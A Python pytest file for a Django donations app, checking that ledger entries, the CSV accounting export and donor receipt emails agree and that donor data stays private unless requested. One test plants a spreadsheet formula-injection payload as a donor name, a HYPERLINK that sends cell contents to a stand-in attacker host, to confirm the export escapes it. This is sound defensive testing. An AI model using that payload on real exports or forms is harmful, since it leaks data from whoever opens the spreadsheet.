"""The ledger, the accounting export and the donor's receipt tell the same story."""

import csv
import io

from django.core.management import call_command
from django.utils import timezone

from contributions.models import LedgerEntry
from contributions.services.checkout import CheckoutData, complete_checkout, start_checkout
from tests.contributions.stripe_helpers import save_card
from tests.factories import make_home


def give(frequency, amount, email):
    data = CheckoutData(
        frequency=frequency, amount=amount, currency="EUR", email=email, provider="stripe"
    )
    contribution, session = start_checkout(data)
    save_card(session.reference)
    complete_checkout(contribution, session.reference)
    return contribution


def test_ledger_export_and_receipts_agree_for_once_monthly_and_annual_gifts(
    stripe_settings, mailbox, django_capture_on_commit_callbacks, db
):
    make_home()
    gifts = {"once": 2500, "monthly": 1000, "annual": 10000}
    with django_capture_on_commit_callbacks(execute=True):
        made = {f: give(f, amount, f"{f}@example.org") for f, amount in gifts.items()}
    receipts = mailbox.wait_for(3)

    ledger = {e.contribution.frequency: e.amount for e in LedgerEntry.objects.filter(kind="charge")}
    assert ledger == gifts

    out = io.StringIO()
    call_command("export-ledger", since=timezone.localdate().isoformat(), stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    exported = {row["frequency"]: row["amount"] for row in rows if row["kind"] == "charge"}
    assert exported == {"once": "25.00", "monthly": "10.00", "annual": "100.00"}
    assert {row["contribution"] for row in rows} == {str(c.pk) for c in made.values()}
    assert "@" not in out.getvalue()  # no personal data without --with-donors

    by_recipient = {
        message["To"]: message.get_body(("plain",)).get_content() for message in receipts
    }
    assert "€25.00" in by_recipient["once@example.org"]
    assert "€10.00" in by_recipient["monthly@example.org"]
    assert "€100.00" in by_recipient["annual@example.org"]


def test_the_export_with_donors_names_them_and_respects_anonymity(stripe_settings, db):
    data = CheckoutData(
        frequency="once",
        amount=500,
        currency="USD",
        email="named@example.org",
        name="Ana N.",
        provider="stripe",
    )
    contribution, session = start_checkout(data)
    save_card(session.reference)
    complete_checkout(contribution, session.reference)
    out = io.StringIO()
    call_command(
        "export-ledger", since=timezone.localdate().isoformat(), with_donors=True, stdout=out
    )
    assert "named@example.org" in out.getvalue() and "Ana N." in out.getvalue()


def test_a_donor_name_that_is_a_formula_is_exported_as_text(stripe_settings, db):
    import csv

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    data = CheckoutData(
        frequency="once",
        amount=500,
        currency="USD",
        email="=2+3@example.org",  # a valid address, and a formula
        name=formula,
        provider="stripe",
    )
    contribution, session = start_checkout(data)
    save_card(session.reference)
    complete_checkout(contribution, session.reference)
    out = io.StringIO()
    call_command(
        "export-ledger", since=timezone.localdate().isoformat(), with_donors=True, stdout=out
    )
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    (row,) = [r for r in rows[1:] if r[3] == "charge"]
    assert row[-1] == "'" + formula
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_export_refuses_bad_dates(db):
    import pytest
    from django.core.management import CommandError

    with pytest.raises(CommandError, match="not a date"):
        call_command("export-ledger", since="yesterday")
    with pytest.raises(CommandError, match="before --since"):
        call_command("export-ledger", since="2026-11-02", until="2026-11-01")
